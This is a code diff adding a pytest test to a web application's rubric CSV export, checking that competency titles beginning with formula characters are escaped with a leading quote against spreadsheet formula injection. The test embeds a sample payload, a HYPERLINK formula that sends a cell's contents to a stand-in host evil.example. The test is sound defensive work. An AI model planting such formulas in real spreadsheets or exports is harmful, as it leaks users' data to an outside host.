@@ -241,3 +241,28 @@ def test_pay_bands_are_off_by_default_and_respect_visibility(app, client, people
         as_text=True
     )
     assert engineer.post("/admin/pay/small", data={"visibility": "off"}).status_code == 404
+
+
+def test_the_rubric_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(app, people):
+    """OWASP CSV injection: a title beginning with = + - @ is written after a ' ."""
+    from dataclasses import replace
+
+    from helpers import open_rubric, sign_in, small_ladder
+
+    from app.ladders import store
+
+    spec = small_ladder()
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    first = replace(spec.competencies[0], title=evil)
+    second = replace(spec.competencies[1], title="-2+3")
+    spec = replace(spec, competencies=(first, second, *spec.competencies[2:]))
+    with app.app_context():
+        store.save(spec)
+        db.session.commit()
+    engineer = app.test_client()
+    sign_in(engineer, people.engineer)
+    rubric_id, _ = open_rubric(engineer)
+    text = engineer.get(f"/rubrics/{rubric_id}/export.csv").get_data(as_text=True)
+    titles = {r["key"]: r["competency"] for r in csv.DictReader(io.StringIO(text))}
+    assert titles[first.key] == "'" + evil
+    assert titles[second.key] == "'-2+3"
